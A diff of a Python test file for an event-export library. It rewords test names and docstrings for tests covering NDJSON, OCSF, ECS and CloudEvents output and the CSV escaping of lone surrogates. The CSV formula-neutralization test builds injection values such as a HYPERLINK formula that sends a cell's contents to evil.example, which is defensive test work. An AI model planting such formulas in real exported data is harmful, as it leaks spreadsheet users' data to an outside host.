@@ -1,4 +1,4 @@
-"""Each format against its published schema, by somebody else's code; and what a spreadsheet would run."""
+"""Each format against its published schema, by other libraries; and the neutralization of CSV."""
 
 import csv
 import io
@@ -32,7 +32,7 @@ TYPES = sorted(
 
 
 def events() -> Iterator[Event]:
-    """Every type, with everything there may be and with nothing that need not be."""
+    """Yield events of every type, with all optional fields and with none."""
     actors = [
         Actor("system"), Actor("user", "u1", "Anna", "anna@example.com"), Actor("recipient", email="x@example.com"),
     ]  # fmt: skip
@@ -42,8 +42,8 @@ def events() -> Iterator[Event]:
     ]  # fmt: skip
     deliveries = [None, Delivery(), Delivery("sms", "delivered", "invitation")]
     targets = [Target("webhook"), None, Target("member", "m1", "Maria", "maria@example.com")]
-    wholes = zip(actors, envelopes, recipients, deliveries, targets, strict=True)
-    for type_, (actor, envelope, recipient, delivery, target) in itertools.product(TYPES, wholes):
+    combinations = zip(actors, envelopes, recipients, deliveries, targets, strict=True)
+    for type_, (actor, envelope, recipient, delivery, target) in itertools.product(TYPES, combinations):
         for outcome, raw in (("success", None), ("failure", {"a": [1, "\ud83d"]}), (None, "text"), ("odd", 0)):
             yield Event(
                 id="AabC-_", source="my source/é", provider="acme", type=type_, category="team", outcome=outcome,
@@ -60,7 +60,7 @@ def world() -> Iterator[World]:
         yield found
 
 
-def test_the_encoder_writes_each_field_as_the_event_has_it() -> None:
+def test_ndjson_has_every_field_of_an_event() -> None:
     for event in events():
         written = json.loads(FORMATS["ndjson"].lines([event]))
         assert list(written) == list(Event.__struct_fields__)
@@ -69,19 +69,19 @@ def test_the_encoder_writes_each_field_as_the_event_has_it() -> None:
 
 
 def is_utf8(event: dict[str, Any]) -> bool:
-    """Not half a surrogate pair, which the validator does not take."""
+    """Return False for a lone surrogate, which the validator does not accept."""
     try:
         return bool(json.dumps(event, ensure_ascii=False).encode())
     except UnicodeEncodeError:
         return False
 
 
-def test_several_lines_at_once_are_the_lines_one_by_one() -> None:
+def test_a_batch_is_encoded_like_its_single_events() -> None:
     ndjson, found = FORMATS["ndjson"], list(events())
-    whole = [event for event in found if event.raw is None]
-    for some in (found, whole, []):  # with half a surrogate, without any, and none
-        assert ndjson.lines(some) == b"".join(ndjson.lines([event]) for event in some)
-    assert len(found) > len(whole) > 0
+    valid_utf8 = [event for event in found if event.raw is None]
+    for batch in (found, valid_utf8, []):  # with a lone surrogate, without one, and empty
+        assert ndjson.lines(batch) == b"".join(ndjson.lines([event]) for event in batch)
+    assert len(found) > len(valid_utf8) > 0
 
 
 OCSF = jsonschema_rs.validator_for(
@@ -110,7 +110,7 @@ def check_cloudevent(found: dict[str, Any]) -> None:
         assert name == "data" or isinstance(value, str)
 
 
-#: Of the ECS 8.17 field reference: the fields in use, and whether they are arrays.
+#: The fields in use and their types, from the ECS 8.17 field reference.
 ECS_FIELDS = {
     "@timestamp": str, "message": str, "ecs.version": str,
     "event.id": str, "event.kind": str, "event.category": list, "event.type": list, "event.action": str,
@@ -120,7 +120,7 @@ ECS_FIELDS = {
     "user.id": str, "user.name": str, "user.full_name": str, "user.email": str,
     "related.user": list, "file.name": str, "user_agent.original": str,
 }  # fmt: skip
-#: Of its page on `event.category`: what is expected beside each.
+#: Expected `event.type` values by `event.category`, from the same reference.
 ECS_TYPES = {
     "file": {"access", "change", "creation", "deletion", "info"},
     "iam": {"admin", "change", "creation", "deletion", "group", "info", "user"},
@@ -187,8 +187,8 @@ INVISIBLE = ["", " ", "\t", "\r", "\n", "\0", "\u00a0", "\u200b", "\ufeff", "\u3
 STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66"]
 
 
-def test_what_a_spreadsheet_would_run_gets_an_apostrophe() -> None:
-    """And what it could take for a formula later, or for an apostrophe of ours; anything else stays as it is."""
+def test_csv_formulas_get_an_apostrophe() -> None:
+    """So do values that could become a formula later, and values that begin with an apostrophe; no others do."""
     for before, start in itertools.product(INVISIBLE, STARTS):
         value = f'{before}{start}HYPERLINK("https://evil.example?"&A1)'
         assert neutral(value) == f"'{value}"
@@ -198,7 +198,7 @@ def test_what_a_spreadsheet_would_run_gets_an_apostrophe() -> None:
         assert neutral(value) == value
 
 
-def test_taking_one_apostrophe_away_gives_every_value_back() -> None:
+def test_removing_one_apostrophe_restores_every_value() -> None:
     for before, start in itertools.product([*INVISIBLE, "'", "''"], [*STARTS, "x", ""]):
         value = f"{before}{start}1"
         assert neutral(value).removeprefix("'") == value
@@ -226,7 +226,7 @@ def test_every_row_is_rfc_4180_and_every_column_neutral() -> None:
             event = next(events())
 
 
-def test_half_a_surrogate_pair_is_written_as_json_would() -> None:
+def test_csv_escapes_a_lone_surrogate_like_json() -> None:
     event = next(events())
     event.description = "\ud83d"
     assert b",\\ud83d," in to_rows([event])
